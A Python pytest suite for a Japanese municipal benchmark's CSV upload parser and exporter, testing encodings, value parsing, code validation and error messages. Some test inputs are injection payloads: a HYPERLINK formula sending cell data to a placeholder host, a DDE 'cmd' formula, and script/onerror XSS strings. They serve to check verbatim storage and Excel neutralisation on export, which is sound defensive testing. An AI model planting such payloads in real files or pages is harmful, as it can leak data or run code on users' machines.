"""Tests for the benchmark's uploads (benchmark/upload.py, upload_file.py, entries_csv.py, vocabulary.py): parsing,
rejecting and writing back uploads."""

from __future__ import annotations

import codecs
import csv
import importlib.util
import io
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from benchmark.entries_csv import entries_to_csv_bytes, template_csv_bytes
from benchmark.upload import parse_upload, read_upload
from benchmark.upload_file import MAX_BYTES, MAX_ROWS, Problem, UploadError
from benchmark.vocabulary import ItemSpec, MunicipalityEntry, Vocabulary, items_from_frame, vocabulary
from common.csv_export import UnencodableCharactersError
from common.government_code import check_digit
from dashboard.queries import sql_for

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "uploads"


def load_items() -> list[ItemSpec]:
    with open(ROOT / "data" / "benchmark_items.csv", encoding="utf-8", newline="") as f:
        rows = sorted(csv.DictReader(f), key=lambda r: int(r["sort_order"]))
    return [
        ItemSpec(r["item_code"], r["kind"], r["label_ja"], r["label_en"],
                 r["yes_label_ja"], r["no_label_ja"], r["yes_label_en"], r["no_label_en"])
        for r in rows
    ]


def load_labels(rows, code: str) -> dict[str, tuple[str, str]]:
    return {row[code]: (row["label_ja"], row["label_en"]) for row in rows}


ITEMS = load_items()
with open(ROOT / "data" / "entity_types.csv", encoding="utf-8", newline="") as _file:
    ENTITY_TYPES = load_labels(sorted(csv.DictReader(_file), key=lambda r: int(r["sort_order"])), "entity_type")
BANDS = load_labels(json.loads((ROOT / "data" / "tables" / "telework_staff_share.meta.json").read_text(encoding="utf-8"))
                    ["breakdown"]["items"], "code")
VOCABULARY = Vocabulary(tuple(ITEMS), ENTITY_TYPES, BANDS)
ITEM = {item.item_code: item for item in ITEMS}
YES_NO = [i for i in ITEMS if i.kind == "yes_no"]
PERCENT = [i for i in ITEMS if i.kind == "percent"]


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def utf8(*lines: str) -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def parse(data: bytes, multiple: bool = True, filename: str = "") -> list[MunicipalityEntry]:
    return parse_upload(data, VOCABULARY, multiple=multiple, filename=filename)


def problems(data: bytes, multiple: bool = True, filename: str = "") -> list[Problem]:
    with pytest.raises(UploadError) as info:
        parse(data, multiple=multiple, filename=filename)
    found = info.value.problems
    assert found, "UploadError must carry problems"
    for p in found:
        assert p.message_ja.strip() and p.message_en.strip()
        assert p.message_ja != p.message_en
        if p.row is not None:  # row-level messages lead with the spreadsheet row
            assert p.message_ja.startswith(f"{p.row}行目"), p.message_ja
            assert p.message_en.startswith(f"Row {p.row}"), p.message_en
    return found


def only_problem(data: bytes, multiple: bool = True, filename: str = "") -> Problem:
    found = problems(data, multiple=multiple, filename=filename)
    assert len(found) == 1, found
    return found[0]


def codes(found: list[Problem]) -> list[tuple[int | None, str | None, str]]:
    return [(p.row, p.column, p.code) for p in found]


# --- reference data ----------------------------------------------------------------


def test_real_item_list_is_the_one_described() -> None:
    assert len(ITEMS) == 22
    assert {i.kind for i in ITEMS} == {"yes_no", "band", "percent"}
    assert [i.item_code for i in ITEMS if i.kind == "band"] == ["telework_staff_band"]
    assert ITEM["standardization_completed"].label_ja == "標準化 完了率"


def test_the_vocabulary_read_from_the_database_is_the_one_in_the_data_files(db) -> None:
    read = vocabulary(items_from_frame(db.execute(sql_for("benchmark_items")).df()),
                      db.execute(sql_for("benchmark_entity_types")).df(),
                      db.execute(sql_for("breakdowns"), {"indicator_code": "telework_staff_share"}).df())
    assert read == VOCABULARY
    assert list(read.entity_types) == ["pref", "ward", "designated", "core", "city_other", "town", "village"]


def test_band_values_are_the_published_ones() -> None:
    assert {code: ja for code, (ja, _) in BANDS.items()} == {
        "band_0_30": "0%以上30%未満",
        "band_30_50": "30%以上50%未満",
        "band_50_80": "50%以上80%未満",
        "band_80_100": "80%以上",
        "unknown": "不明",
    }


def test_item_spec_rejects_unknown_kind() -> None:
    with pytest.raises(ValueError, match="kind"):
        ItemSpec("x", "number", "x", "x")


def test_upload_error_needs_a_problem() -> None:
    with pytest.raises(ValueError):
        UploadError([])


def test_ambiguous_item_labels_are_a_programming_error() -> None:
    clash = [ItemSpec("a", "yes_no", "同じ", "A"), ItemSpec("b", "yes_no", "同じ", "B")]
    with pytest.raises(ValueError, match="ambiguous"):
        parse_upload(utf8("entity_type,a", "town,1"), Vocabulary(tuple(clash), ENTITY_TYPES, BANDS), multiple=False)


# --- the fixture suite ----------------------------------------------------------------


def test_committed_fixtures_match_their_generator() -> None:
    spec = importlib.util.spec_from_file_location("make_fixtures", FIXTURES / "make_fixtures.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert sorted(module.FIXTURES) == sorted(p.name for p in FIXTURES.glob("*.csv"))
    for name, content in module.FIXTURES.items():
        assert fixture(name) == content, f"{name} is stale: run make_fixtures.py"


def test_fixture_empty() -> None:
    p = only_problem(fixture("empty.csv"), filename="empty.csv")
    assert (p.row, p.column, p.code) == (None, None, "file_empty")
    assert "「empty.csv」" in p.message_ja and "“empty.csv”" in p.message_en


def test_fixture_xlsx_renamed() -> None:
    p = only_problem(fixture("xlsx_renamed.csv"))
    assert (p.row, p.column, p.code) == (None, None, "not_csv")
    assert ".xlsx" in p.message_ja and ".xlsx" in p.message_en


def test_fixture_binary_nul() -> None:
    p = only_problem(fixture("binary_nul.csv"))
    assert (p.row, p.column, p.code) == (None, None, "not_csv")
    assert "U+0000" in p.message_ja and "U+0000" in p.message_en


def test_fixture_utf16_bom_is_valid() -> None:
    assert parse(fixture("utf16_bom.csv")) == [
        MunicipalityEntry("131016", "千代田区", "ward",
                          {"ai_adoption": True, "telework_staff_band": "band_30_50", "standardization_completed": 29.6}),
        MunicipalityEntry("011002", "札幌市", "designated",
                          {"ai_adoption": False, "telework_staff_band": "unknown", "standardization_completed": 100.0}),
    ]


def test_fixture_cp932_is_valid() -> None:
    data = fixture("cp932.csv")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # really cp932, so the fallback is what is tested
    assert parse(data) == [
        MunicipalityEntry(None, "髙森町（テスト）", "town",
                          {"ai_adoption": True, "telework_staff_band": "band_80_100", "standardization_completed": 50.0}),
        MunicipalityEntry(None, "㈱テスト村", "village",
                          {"ai_adoption": False, "telework_staff_band": "band_0_30", "standardization_completed": 0.0}),
    ]


def test_fixture_utf8_bom_is_valid() -> None:
    data = fixture("utf8_bom.csv")
    assert data.startswith(codecs.BOM_UTF8)
    assert parse(data) == [
        MunicipalityEntry("131016", "千代田区", "ward",
                          {"ai_adoption": True, "telework_staff_band": "band_50_80", "standardization_completed": 29.6}),
        MunicipalityEntry("130001", "東京都", "pref", {"ai_adoption": False, "standardization_completed": 100.0}),
        MunicipalityEntry("472018", "那覇市", "core", {"ai_adoption": True, "telework_staff_band": "unknown"}),
    ]


def test_fixture_latin1_garbage() -> None:
    p = only_problem(fixture("latin1_garbage.csv"))
    assert (p.row, p.column, p.code) == (None, None, "unreadable_encoding")
    assert "UTF-8" in p.message_ja and "cp932" in p.message_en


def test_fixture_unknown_column() -> None:
    p = only_problem(fixture("unknown_column.csv"))
    assert (p.row, p.column, p.code) == (1, "予算額", "unknown_column")
    assert "「予算額」" in p.message_ja and "“予算額”" in p.message_en


def test_fixture_duplicate_column() -> None:
    found = problems(fixture("duplicate_column.csv"))
    assert codes(found) == [(1, "団体コード", "duplicate_column"), (1, "AIの導入", "duplicate_column")]
    assert "「municipality_code」" in found[0].message_ja
    assert "“ai_adoption”" in found[1].message_en


def test_fixture_unknown_type() -> None:
    p = only_problem(fixture("unknown_type.csv"))
    assert (p.row, p.column, p.code) == (3, "団体区分", "unknown_entity_type")
    assert p.message_ja.startswith("3行目の列「団体区分」: ") and "「市町村」" in p.message_ja
    assert "特別区" in p.message_ja and "Special ward" in p.message_en


def test_fixture_bad_check_digit() -> None:
    p = only_problem(fixture("bad_check_digit.csv"))
    assert (p.row, p.column, p.code) == (2, "団体コード", "code_bad_check_digit")
    assert "検査数字が正しくありません（末尾は6のはずです）" in p.message_ja
    assert "should be 6" in p.message_en


def test_fixture_lost_leading_zero_is_valid() -> None:
    entries = parse(fixture("lost_leading_zero.csv"))
    assert [(e.municipality_code, e.municipality_name) for e in entries] == [("011002", "札幌市"), ("041009", "仙台市")]


def test_fixture_pct_out_of_range() -> None:
    found = problems(fixture("pct_out_of_range.csv"))
    assert codes(found) == [(3, "標準化 完了率", "percent_out_of_range"), (5, "標準化 完了率", "percent_out_of_range")]
    assert found[1].message_ja == "5行目の列「標準化 完了率」: 120 は0〜100の範囲外です"
    assert found[1].message_en == "Row 5, column “標準化 完了率”: 120 is outside 0–100"
    assert "-0.5" in found[0].message_ja


def test_fixture_duplicate_municipality() -> None:
    found = problems(fixture("duplicate_municipality.csv"))
    # Rows 7 and 8 share the name 府中市 but have different codes: not duplicates.
    assert codes(found) == [(4, "団体コード", "duplicate_municipality"), (6, "団体名", "duplicate_municipality")]
    assert found[0].message_ja == "4行目の列「団体コード」: 団体コード「131016」が2行目と重複しています"
    assert found[0].message_en == "Row 4, column “団体コード”: municipality code “131016” duplicates row 2"
    assert found[1].message_ja.startswith("6行目") and "「港区」が5行目と重複" in found[1].message_ja


def test_fixture_formula_names_are_kept_verbatim() -> None:
    names = [e.municipality_name for e in parse(fixture("formula_names.csv"))]
    assert names == ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)", "-1+2"]


def test_fixture_html_names_are_kept_verbatim() -> None:
    names = [e.municipality_name for e in parse(fixture("html_names.csv"))]
    assert names == ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;"]


def test_fixture_semicolon_separated() -> None:
    p = only_problem(fixture("semicolon_separated.csv"))
    assert (p.row, p.column, p.code) == (None, None, "not_csv")
    assert "セミコロン" in p.message_ja and "semicolon" in p.message_en


def test_too_many_rows() -> None:
    row = ",町{n},町,はい"
    lines = ["municipality_code,municipality_name,entity_type,ai_adoption"]
    data = utf8(*lines, *(row.format(n=n) for n in range(MAX_ROWS + 1)))
    p = only_problem(data)
    assert (p.row, p.column, p.code) == (None, None, "too_many_rows")
    assert f"{MAX_ROWS:,}" in p.message_ja and f"{MAX_ROWS:,}" in p.message_en
    # Exactly the limit is fine, and blank lines do not count towards it.
    data = utf8(*lines, *(row.format(n=n) for n in range(MAX_ROWS)), ",,,", "")
    assert len(parse(data)) == MAX_ROWS


def test_too_large_is_checked_before_decoding() -> None:
    p = only_problem(b"\xff" * (MAX_BYTES + 1))  # undecodable, yet size is what is reported
    assert (p.row, p.column, p.code) == (None, None, "file_too_large")
    assert "10 MB" in p.message_ja and "10 MB" in p.message_en


def test_exactly_the_size_limit_is_not_too_large() -> None:
    head = b"entity_type,ai_adoption\r\ntown,1\r\n"
    padding = MAX_BYTES - len(head)
    data = head + b" " * (padding % 2) + b"\r\n" * (padding // 2)  # blank lines are ignored
    assert len(data) == MAX_BYTES
    assert parse(data, multiple=False) == [MunicipalityEntry(None, "", "town", {"ai_adoption": True})]


# --- file-level checks ---------------------------------------------------------------


@pytest.mark.parametrize("data", [b" ", b"\r\n\r\n", codecs.BOM_UTF8, codecs.BOM_UTF8 + b" \r\n", b",,,\r\n,,\r\n"])
def test_whitespace_only_is_empty(data: bytes) -> None:
    assert only_problem(data).code == "file_empty"


@pytest.mark.parametrize(
    ("data", "needle"),
    [(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", ".xls"), (b"%PDF-1.7\n...", "PDF")],
)
def test_other_binary_formats_are_not_csv(data: bytes, needle: str) -> None:
    p = only_problem(data)
    assert p.code == "not_csv" and needle in p.message_ja and needle in p.message_en


def test_utf16_without_bom_is_not_a_csv() -> None:
    data = "entity_type,ai_adoption\r\ntown,1\r\n".encode("utf-16-le")
    assert only_problem(data).code == "not_csv"


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-8", "cp932"])
def test_supported_encodings_with_bom_where_applicable(encoding: str) -> None:
    text = "団体名,団体区分,AIの導入\r\n髙根沢町,町,はい\r\n"
    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-8": codecs.BOM_UTF8}.get(encoding, b"")
    assert parse(bom + text.encode(encoding)) == [MunicipalityEntry(None, "髙根沢町", "town", {"ai_adoption": True})]


def test_bom_that_lies_about_the_encoding_is_unreadable() -> None:
    data = codecs.BOM_UTF8 + "団体名,団体区分\r\n".encode("cp932")
    assert only_problem(data).code == "unreadable_encoding"


def test_filename_is_optional_in_file_messages() -> None:
    p = only_problem(b"")
    assert p.message_ja == "ファイルは空です。" and p.message_en == "The file is empty."


def test_single_column_without_separator_hint() -> None:
    p = only_problem(utf8("団体名", "千代田区"))
    assert p.code == "not_csv" and "列が1つ" in p.message_ja and "only one column" in p.message_en


def test_tab_separated_gets_a_hint() -> None:
    p = only_problem(utf8("団体名\t団体区分\tAIの導入", "千代田区\t特別区\tはい"))
    assert p.code == "not_csv" and "タブ" in p.message_ja and "tabs" in p.message_en


def test_header_only_has_no_rows() -> None:
    assert only_problem(utf8("団体名,団体区分,AIの導入")).code == "no_rows"


def test_multiple_false_rejects_a_second_row() -> None:
    data = utf8("団体名,団体区分,AIの導入", "千代田区,特別区,はい", "中央区,特別区,はい")
    p = only_problem(data, multiple=False)
    assert (p.row, p.code) == (None, "multiple_rows")
    assert "2行" in p.message_ja and "2 data rows" in p.message_en
    assert len(parse(data, multiple=True)) == 2


def test_header_problems_are_reported_with_row_count_problems() -> None:
    data = utf8("団体名,団体区分,AIの導入,謎", "a,町,はい", "b,町,はい")
    assert [p.code for p in problems(data, multiple=False)] == ["unknown_column", "multiple_rows"]


def test_unquoted_huge_field_is_not_csv_rather_than_a_crash() -> None:
    data = b"entity_type,ai_adoption\r\ntown," + b"x" * 200_000 + b"\r\n"
    p = only_problem(data)
    assert p.code == "not_csv" and "2行目付近" in p.message_ja and "near row 2" in p.message_en


# --- header -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "municipality_code,municipality_name,entity_type,ai_adoption,standardization_completed",
        "団体コード,団体名,団体区分,AIの導入,標準化 完了率",
        "Municipality code,Municipality name,Entity type,AI adopted,Standardisation: tasks completed",
        "  MUNICIPALITY_CODE ,municipality name,ENTITY　TYPE,ＡＩの導入,標準化完了率",
        "\ufeff団体コード,団体名,団体区分,AI_ADOPTION,standardisation:tasks completed",
    ],
)
def test_header_spellings(header: str) -> None:
    data = utf8(header, "131016,千代田区,特別区,はい,29.6")
    assert parse(data) == [
        MunicipalityEntry("131016", "千代田区", "ward", {"ai_adoption": True, "standardization_completed": 29.6})
    ]


def test_columns_may_come_in_any_order_and_items_may_be_absent() -> None:
    data = utf8("RPAの導入,団体区分,団体名", "いいえ,村,檜枝岐村")
    assert parse(data) == [MunicipalityEntry(None, "檜枝岐村", "village", {"rpa_adoption": False})]


def test_every_real_item_header_is_recognised() -> None:
    for item in ITEMS:
        for header in (item.item_code, item.label_ja, item.label_en):
            data = utf8(f"団体区分,{header}", "町,")
            assert parse(data, multiple=False) == [MunicipalityEntry(None, "", "town", {})], header


def test_missing_entity_type_column() -> None:
    found = problems(utf8("団体名,AIの導入", "千代田区,はい"))
    assert codes(found) == [(1, None, "missing_column")]
    assert "団体区分" in found[0].message_ja and "Entity type" in found[0].message_en


def test_name_column_required_only_for_multiple() -> None:
    data = utf8("団体コード,団体区分,AIの導入", "131016,特別区,はい")
    assert parse(data, multiple=False) == [MunicipalityEntry("131016", "", "ward", {"ai_adoption": True})]
    found = problems(data, multiple=True)
    assert codes(found) == [(1, None, "missing_column")] and "団体名" in found[0].message_ja


def test_no_item_columns() -> None:
    found = problems(utf8("団体名,団体区分", "千代田区,特別区"))
    assert codes(found) == [(1, None, "no_item_columns")]


def test_all_header_problems_are_collected() -> None:
    found = problems(utf8("団体名,団体名,謎1,謎2", "a,b,c,d"))
    assert codes(found) == [
        (1, "団体名", "duplicate_column"),
        (1, "謎1", "unknown_column"),
        (1, "謎2", "unknown_column"),
        (1, None, "missing_column"),
        (1, None, "no_item_columns"),
    ]


def test_trailing_empty_columns_from_excel_are_ignored() -> None:
    data = utf8("団体名,団体区分,AIの導入,,", "千代田区,特別区,はい,,", ",,,,")
    assert parse(data) == [MunicipalityEntry(None, "千代田区", "ward", {"ai_adoption": True})]


def test_values_under_an_unnamed_column_are_reported_once() -> None:
    data = utf8("団体名,団体区分,,AIの導入", "a,町,,はい", "b,町,メモ,はい", "c,町,メモ2,はい")
    found = problems(data)
    assert codes(found) == [(3, "", "unnamed_column")]
    assert "3列目" in found[0].message_ja and "「メモ」" in found[0].message_ja and "column 3" in found[0].message_en


def test_cells_beyond_the_header() -> None:
    found = problems(utf8("団体名,団体区分,AIの導入", "a,町,はい,余分", "b,町,はい,,"))
    assert codes(found) == [(2, None, "extra_cells")] and "「余分」" in found[0].message_ja


def test_short_rows_are_padded_as_unanswered() -> None:
    data = utf8("団体名,団体区分,AIの導入,RPAの導入", "a,町,はい", "b,村")
    assert parse(data) == [
        MunicipalityEntry(None, "a", "town", {"ai_adoption": True}),
        MunicipalityEntry(None, "b", "village", {}),
    ]


def test_row_numbers_count_blank_lines_and_quoted_newlines_like_a_spreadsheet() -> None:
    data = utf8("団体名,団体区分,AIの導入", "", '"二行の', '名前",町,はい', "c,町,たぶん")
    p = only_problem(data)
    # Header 1, blank 2, the two-line cell is row 3, so the bad value is row 4.
    assert (p.row, p.column, p.code) == (4, "AIの導入", "unknown_yes_no_value")


def test_header_after_blank_lines_keeps_spreadsheet_numbering() -> None:
    p = only_problem(utf8("", "", "団体名,団体区分,AIの導入", "a,町,たぶん"))
    assert p.row == 4


# --- values -------------------------------------------------------------------------


def one(value: str, item: str = "ai_adoption") -> bool | str | float:
    header = ITEM[item].label_ja
    [entry] = parse(utf8(f"団体区分,{header}", f'町,"{value}"'), multiple=False)
    return entry.answers[item]


def bad(value: str, item: str = "ai_adoption") -> Problem:
    header = ITEM[item].label_ja
    p = only_problem(utf8(f"団体区分,{header}", f'町,"{value}"'), multiple=False)
    assert (p.row, p.column) == (2, header)
    return p


@pytest.mark.parametrize(
    "value",
    ["1", "yes", "YES", "y", "true", "True", "はい", "○", "〇", "◯", "済", " 導入済み ", "１", "ｙｅｓ", "Adopted"],
)
def test_yes_values(value: str) -> None:
    assert one(value) is True


@pytest.mark.parametrize("value", ["0", "no", "No", "n", "FALSE", "いいえ", "×", "✕", "未", "未導入", "０", "not adopted"])
def test_no_values(value: str) -> None:
    assert one(value) is False


@pytest.mark.parametrize("item", YES_NO, ids=lambda i: i.item_code)
def test_each_items_own_labels(item: ItemSpec) -> None:
    assert one(item.yes_label_ja, item.item_code) is True
    assert one(item.no_label_ja, item.item_code) is False
    assert one(item.yes_label_en, item.item_code) is True
    assert one(item.no_label_en, item.item_code) is False


def test_another_items_label_is_not_accepted() -> None:
    # 構築済み belongs to governance_cross_departmental, not to AI adoption.
    p = bad("構築済み")
    assert p.code == "unknown_yes_no_value"
    assert "導入済み／未導入" in p.message_ja


@pytest.mark.parametrize("value", ["2", "maybe", "たぶん", "-", "yes!", "1.0", "x"])
def test_unknown_yes_no_values(value: str) -> None:
    p = bad(value)
    assert p.code == "unknown_yes_no_value"
    assert f"「{value}」" in p.message_ja and f"“{value}”" in p.message_en


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("band_0_30", "band_0_30"), ("BAND_30_50", "band_30_50"), ("0%以上30%未満", "band_0_30"),
        ("３０％以上５０％未満", "band_30_50"), ("50% 以上 80% 未満", "band_50_80"), ("80%以上", "band_80_100"),
        ("不明", "unknown"), ("unknown", "unknown"), ("80% or more", "band_80_100"),
    ],
)
def test_band_values(value: str, expected: str) -> None:
    assert one(value, "telework_staff_band") == expected


@pytest.mark.parametrize("value", ["30", "30%", "80%以上100%以下", "band_0_50", "はい"])
def test_unknown_band_values(value: str) -> None:
    p = bad(value, "telework_staff_band")
    assert p.code == "unknown_band_value"
    assert "30%以上50%未満" in p.message_ja and "30% to under 50%" in p.message_en


@pytest.mark.parametrize(
    ("value", "expected"),
    [("29.6", 29.6), ("29.6%", 29.6), ("２９．６％", 29.6), (" 50 % ", 50.0), ("0", 0.0), ("100", 100.0),
     ("100.0", 100.0), ("+5", 5.0), (".5", 0.5), ("7.", 7.0), ("0.001", 0.001), ("1E-05", 1e-05), ("1e2", 100.0)],
)
def test_percent_values(value: str, expected: float) -> None:
    assert one(value, "standardization_completed") == expected
    assert isinstance(one(value, "standardization_completed"), float)


@pytest.mark.parametrize("value", ["100.01", "-0.1", "120", "120%", "1000000", "1e3", "1e999"])
def test_percent_out_of_range(value: str) -> None:
    p = bad(value, "standardization_completed")
    assert p.code == "percent_out_of_range"
    assert p.message_ja.endswith(f"{value} は0〜100の範囲外です")


@pytest.mark.parametrize("value", ["abc", "nan", "inf", "-inf", "1e", "e5", "1_0", "50%%", "%", "12,5", "−5", "五十", "0x10"])
def test_invalid_percent(value: str) -> None:
    p = bad(value, "standardization_completed")
    assert p.code == "invalid_percent"
    assert f"「{value}」" in p.message_ja and "0〜100" in p.message_ja


def test_blank_items_are_unanswered() -> None:
    header = ",".join(["団体区分"] + [i.label_ja for i in ITEMS])
    [entry] = parse(utf8(header, "町" + ", " * len(ITEMS)), multiple=False)
    assert entry.answers == {}


@pytest.mark.parametrize(
    ("value", "expected"),
    [("pref", "pref"), ("都道府県", "pref"), ("Prefecture", "pref"), ("特別区", "ward"),
     ("special ward (tokyo)", "ward"), ("DESIGNATED", "designated"), ("その他の市", "city_other"),
     ("Other City", "city_other"), ("city_other", "city_other"), ("町", "town"), ("村", "village"), (" 中核市 ", "core")],
)
def test_entity_type_spellings(value: str, expected: str) -> None:
    [entry] = parse(utf8("団体区分,AIの導入", f"{value},はい"), multiple=False)
    assert entry.entity_type == expected


@pytest.mark.parametrize("value", ["市", "市町村", "city", "政令市", "1"])
def test_unknown_entity_types(value: str) -> None:
    p = only_problem(utf8("団体区分,AIの導入", f"{value},はい"), multiple=False)
    assert (p.row, p.column, p.code) == (2, "団体区分", "unknown_entity_type")


def test_blank_entity_type_and_blank_name() -> None:
    found = problems(utf8("団体名,団体区分,AIの導入", " ,,はい"))
    assert codes(found) == [(2, "団体名", "missing_value"), (2, "団体区分", "missing_value")]


# --- municipality code --------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "code"),
    [("abc", "code_not_digits"), ("1234", "code_wrong_length"), ("481234", "code_prefecture_out_of_range"),
     ("131015", "code_bad_check_digit"), ("13101", "code_bad_check_digit")],
)
def test_code_problems(value: str, code: str) -> None:
    p = only_problem(utf8("団体コード,団体区分,AIの導入", f"{value},特別区,はい"), multiple=False)
    assert (p.row, p.column, p.code) == (2, "団体コード", code)
    assert p.message_ja.startswith("2行目の列「団体コード」: 団体コード")


@pytest.mark.parametrize(("value", "expected"), [("011002", "011002"), ("11002", "011002"), ("11002.0", "011002"), ("０１１００２", "011002"), ("", None)])
def test_code_normalised_or_absent(value: str, expected: str | None) -> None:
    [entry] = parse(utf8("団体コード,団体区分,AIの導入", f"{value},指定都市,はい"), multiple=False)
    assert entry.municipality_code == expected


@pytest.mark.parametrize(("code", "entity_type"), [("131016", "都道府県"), ("130001", "特別区")])
def test_prefecture_codes_and_prefecture_type_must_agree(code: str, entity_type: str) -> None:
    p = only_problem(utf8("団体コード,団体区分,AIの導入", f"{code},{entity_type},はい"), multiple=False)
    assert (p.row, p.column, p.code) == (2, "団体区分", "type_code_mismatch")
    assert "000" in p.message_ja and "000" in p.message_en


def test_duplicate_codes_written_differently_are_caught() -> None:
    data = utf8("団体コード,団体名,団体区分,AIの導入", "11002,札幌市,指定都市,はい", "011002,札幌,指定都市,はい")
    p = only_problem(data)
    assert (p.row, p.code) == (3, "duplicate_municipality") and "「011002」" in p.message_ja


def test_same_name_with_and_without_code_is_a_duplicate() -> None:
    data = utf8("団体コード,団体名,団体区分,AIの導入", "132063,府中市,その他の市,はい", ",府中市,その他の市,はい")
    p = only_problem(data)
    assert (p.row, p.column, p.code) == (3, "団体名", "duplicate_municipality")


# --- everything at once -----------------------------------------------------------------


def test_all_row_problems_are_collected_in_row_order() -> None:
    data = utf8(
        "団体コード,団体名,団体区分,AIの導入,標準化 完了率,テレワークを実施可能な環境にある職員の割合",
        "131015,千代田区,特別区,はい,10,不明",
        "131024,中央区,区,たぶん,101,半分",
        "131032,港区,特別区,はい,50,不明",
        "131032,港区,特別区,はい,50,不明",
    )
    err = pytest.raises(UploadError, parse, data).value
    assert codes(err.problems) == [
        (2, "団体コード", "code_bad_check_digit"),
        (3, "団体区分", "unknown_entity_type"),
        (3, "AIの導入", "unknown_yes_no_value"),
        (3, "標準化 完了率", "percent_out_of_range"),
        (3, "テレワークを実施可能な環境にある職員の割合", "unknown_band_value"),
        (5, "団体コード", "duplicate_municipality"),
    ]
    assert err.message_ja.count("\n") == 5 and "（ほか1件）" in err.message_ja
    assert "(and 1 more)" in err.message_en and str(err) == err.message_en


# --- names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1", "<b>x</b>", " 前後に空白 ", "a,b", 'q"q', "改\n行", "\t=1"],
)
def test_names_are_kept_exactly(name: str) -> None:
    quoted = '"' + name.replace('"', '""') + '"'
    [entry] = parse(utf8("団体名,団体区分,AIの導入", f"{quoted},町,はい"))
    assert entry.municipality_name == name


@pytest.mark.parametrize(("written", "restored"), [("'=1+1", "=1+1"), ("'@SUM(A1)", "@SUM(A1)"), ("'-2", "-2"), ("''x", "'x"), ("'x", "'x"), ("'", "'")])
def test_neutralised_names_are_restored(written: str, restored: str) -> None:
    [entry] = parse(utf8("団体名,団体区分,AIの導入", f"{written},町,はい"))
    assert entry.municipality_name == restored


# --- writing back -------------------------------------------------------------------------


def sample_entries() -> list[MunicipalityEntry]:
    return [
        MunicipalityEntry("131016", "千代田区", "ward",
                          {"ai_adoption": True, "telework_staff_band": "band_30_50", "standardization_completed": 29.6,
                           "mynumber_held_rate": 100.0}),
        MunicipalityEntry(None, '=HYPERLINK("http://x","y")', "town", {"ai_adoption": False, "rpa_adoption": True}),
        MunicipalityEntry(None, "+cmd|' /C calc'!A0", "village", {}),
        MunicipalityEntry(None, "'quoted", "village", {"telework_staff_band": "unknown"}),
        MunicipalityEntry("130001", "<script>alert(1)</script>", "pref", {"standardization_in_progress": 0.0}),
        MunicipalityEntry("011002", "髙㈱①", "designated", {"mynumber_issued_rate": 33.333333333333336}),
    ]


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_round_trip(language: str, encoding: str) -> None:
    entries = sample_entries()
    data = entries_to_csv_bytes(entries, VOCABULARY, encoding=encoding, language=language)
    assert parse(data) == entries


def test_round_trip_of_every_fixture_that_parses() -> None:
    for name in ["utf16_bom.csv", "cp932.csv", "utf8_bom.csv", "lost_leading_zero.csv", "formula_names.csv", "html_names.csv"]:
        entries = parse(fixture(name))
        assert parse(entries_to_csv_bytes(entries, VOCABULARY)) == entries, name


def test_exported_names_are_neutralised_for_excel() -> None:
    rows = list(csv.reader(io.StringIO(entries_to_csv_bytes(sample_entries(), VOCABULARY).decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["団体コード", "団体名", "団体区分"]
    assert [r[1] for r in rows[1:]] == [
        "千代田区", '\'=HYPERLINK("http://x","y")', "'+cmd|' /C calc'!A0", "''quoted", "<script>alert(1)</script>", "髙㈱①"
    ]


def test_exported_values_are_human_readable() -> None:
    data = entries_to_csv_bytes(sample_entries()[:2], VOCABULARY)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    row = dict(zip(rows[0], rows[1]))
    assert row["団体コード"] == "131016" and row["団体区分"] == "特別区"
    assert row["AIの導入"] == "導入済み" and row["RPAの導入"] == ""
    assert row["テレワークを実施可能な環境にある職員の割合"] == "30%以上50%未満"
    assert row["標準化 完了率"] == "29.6" and row["マイナンバーカード 保有枚数率"] == "100.0"
    assert dict(zip(rows[0], rows[2]))["AIの導入"] == "未導入"
    en = list(csv.reader(io.StringIO(entries_to_csv_bytes(sample_entries()[:1], VOCABULARY, language="en").decode("utf-8-sig"), newline="")))
    assert en[0][:4] == ["Municipality code", "Municipality name", "Entity type", "Cross-departmental DX structure"]
    assert dict(zip(en[0], en[1]))["AI adopted"] == "Adopted"


def test_export_in_cp932_refuses_characters_it_cannot_hold() -> None:
    entries = [MunicipalityEntry(None, "𠮷野町", "town", {})]
    with pytest.raises(UnencodableCharactersError) as info:
        entries_to_csv_bytes(entries, VOCABULARY, encoding="cp932")
    assert info.value.problems == [(2, "団体名", "𠮷")]
    assert parse(entries_to_csv_bytes(entries, VOCABULARY)) == entries


@pytest.mark.parametrize(
    "entry",
    [
        MunicipalityEntry(None, "a", "city", {}),
        MunicipalityEntry(None, "a", "town", {"no_such_item": True}),
        MunicipalityEntry(None, "a", "town", {"telework_staff_band": "half"}),
        MunicipalityEntry(None, "a", "town", {"telework_staff_band": True}),
        MunicipalityEntry(None, "a", "town", {"ai_adoption": "yes"}),
        MunicipalityEntry(None, "a", "town", {"ai_adoption": 1}),
        MunicipalityEntry(None, "a", "town", {"standardization_completed": 120.0}),
        MunicipalityEntry(None, "a", "town", {"standardization_completed": float("nan")}),
        MunicipalityEntry(None, "a", "town", {"standardization_completed": True}),
    ],
)
def test_export_rejects_entries_that_could_not_have_been_parsed(entry: MunicipalityEntry) -> None:
    with pytest.raises(ValueError) as info:
        entries_to_csv_bytes([entry], VOCABULARY)
